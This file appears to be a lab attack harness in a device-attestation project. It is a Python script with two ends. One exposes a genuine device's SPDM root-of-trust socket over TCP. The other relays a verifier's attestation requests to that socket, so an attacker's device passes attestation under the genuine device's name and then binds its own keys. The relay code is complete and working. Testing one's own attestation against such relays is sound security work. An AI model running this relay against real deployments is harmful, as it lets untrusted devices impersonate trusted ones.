"""Attack: answer control with the evidence of another, genuine device, on a channel and with keys of one's own.

Two ends, each as root of a device:

    python -m ztdpu.lab.attacks.relayed_attestation lend --config agent.yaml --address 10.91.0.10 --port 7999
                                                                                            on the genuine one
    python -m ztdpu.lab.attacks.relayed_attestation ask --config agent.yaml --lender 10.91.0.10:7999 --as dpu-0
        --attempts 3                                                                            on the attacker's

The lender opens door one of its root of trust, which anybody on a device may knock at, to the network. The asker
claims the lender's name, forwards each SPDM request of control and answers with what comes back: measurements of
good firmware, signed over control's own nonce. The key binding that follows is of its own root of trust; it has no
other. The twin has a lender on the asker's own device and its own name.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import socket
import sys
import threading
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path
from typing import Final

from ztdpu.agent.configuration import AgentSpec
from ztdpu.agent.run import read_configuration
from ztdpu.agent.start_files import make_state_dir
from ztdpu.agent.supervisor import Doors, programs
from ztdpu.lab.attacks.altered_firmware import Harvest, ask_for_identities, booted

_LENGTH_OCTETS: Final = 4
_LIMIT_OCTETS: Final = 128 * 1024
_PATIENCE_S: Final = 5.0


def lend(door: Path, address: str, port: int) -> None:
    """Forward each connection from the network to a door, until standard input closes."""
    with socket.create_server((address, port)) as listening:
        _serve(listening, lambda guest: _bridge_to_door(guest, door))
        print(json.dumps({"lending": True}), flush=True)
        sys.stdin.read()


def _bridge_to_door(guest: socket.socket, door: Path) -> None:
    with guest, socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as inside:
        inside.settimeout(_PATIENCE_S)
        inside.connect(str(door))
        while request := receive(guest):
            inside.send(request)
            send(guest, inside.recv(_LIMIT_OCTETS))


def open_false_door(path: Path, lender: tuple[str, int]) -> socket.socket:
    """Return a listening socket that looks like door one; what comes to it is asked at the lender's."""
    path.unlink(missing_ok=True)
    listening = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    listening.bind(str(path))
    listening.listen()
    _serve(listening, lambda agent: _bridge_to_lender(agent, lender))
    return listening


def _bridge_to_lender(agent: socket.socket, lender: tuple[str, int]) -> None:
    with agent, socket.create_connection(lender, timeout=_PATIENCE_S) as far:
        while request := agent.recv(_LIMIT_OCTETS):
            send(far, request)
            agent.send(receive(far))


def _serve(listening: socket.socket, answer: Callable[[socket.socket], None]) -> None:
    def accept() -> None:
        while True:
            try:
                peer, _ = listening.accept()
            except OSError:
                return  # closed: we are done
            threading.Thread(target=answer, args=(peer,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()


def send(peer: socket.socket, message: bytes) -> None:
    """Put one message on a stream."""
    peer.sendall(len(message).to_bytes(_LENGTH_OCTETS, "big") + message)


def receive(peer: socket.socket) -> bytes:
    """Take one message from a stream, empty at its end."""
    length = int.from_bytes(_take(peer, _LENGTH_OCTETS), "big")
    return _take(peer, min(length, _LIMIT_OCTETS))


def _take(peer: socket.socket, octets: int) -> bytes:
    taken = b""
    while len(taken) < octets:
        part = peer.recv(octets - len(taken))
        if not part:
            return b""
        taken += part
    return taken


async def run_attack(spec: AgentSpec, *, name: str, lender: tuple[str, int], attempts: int, pause_s: float) -> Harvest:
    """Boot the own root of trust, and ask in `name` with evidence from the lender."""
    async with booted(spec, fault=None) as doors:
        relay = spec.state_dir / "relay.sock"
        with open_false_door(relay, lender):
            false = Doors(spdm_socket=relay, binding_socket=doors.binding_socket)
            return await ask_for_identities(spec.model_copy(update={"device": name}), attempts, pause_s, false)


def main() -> None:
    """Run from the command line."""
    parser = argparse.ArgumentParser(description="Attest with somebody else's evidence.")
    commands = parser.add_subparsers(dest="command", required=True)
    lending = commands.add_parser("lend")
    lending.add_argument("--address", default="", help="where to listen; without it everywhere")
    lending.add_argument("--port", type=int, required=True)
    asking = commands.add_parser("ask")
    asking.add_argument("--lender", required=True, help="ADDRESS:PORT")
    asking.add_argument("--as", dest="name", default="", help="name to claim; without it the own one")
    asking.add_argument("--attempts", type=int, default=3)
    asking.add_argument("--pause", type=float, default=0.1, help="seconds between two attempts")
    for command in (lending, asking):
        command.add_argument("--config", type=Path, required=True)
    given = parser.parse_args()
    spec = read_configuration(given.config)
    if given.command == "lend":
        root = spec.root_of_trust
        wanted = programs(state_dir=spec.state_dir, secrets_file=root.secrets_file, profile=root.profile)
        lend(wanted.doors.spdm_socket, given.address, given.port)
        return
    make_state_dir(spec)
    address, _, port = given.lender.rpartition(":")
    attack = run_attack(
        spec,
        name=given.name or spec.device,
        lender=(address, int(port)),
        attempts=given.attempts,
        pause_s=given.pause,
    )
    json.dump(asdict(asyncio.run(attack)), sys.stdout)
    print()


if __name__ == "__main__":
    main()
